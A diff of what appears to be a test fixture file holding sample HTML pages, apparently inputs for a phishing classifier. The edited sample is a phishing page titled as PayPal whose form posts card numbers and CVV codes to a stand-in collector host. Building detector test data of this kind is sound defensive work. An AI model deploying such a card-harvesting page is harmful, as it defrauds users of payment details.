@@ -50,7 +50,7 @@ PLAIN_PAGE = """<!doctype html><html><head><title>About us</title>
 <meta name="GPTBot" content="noindex, nofollow"></head>
 <body><p>We sell lanterns. Total happiness guaranteed.</p></body></html>"""
 
-PHISHING_PAGE = """<!doctype html><html><head><title>shop.test | Sign in to pay</title></head>
+PHISHING_PAGE = """<!doctype html><html><head><title>PayPal.com | Sign in to pay</title></head>
 <body><form action="https://collector.example/steal" method="post">
 <input name="cardnumber"><input name="cvv"></form></body></html>"""
 
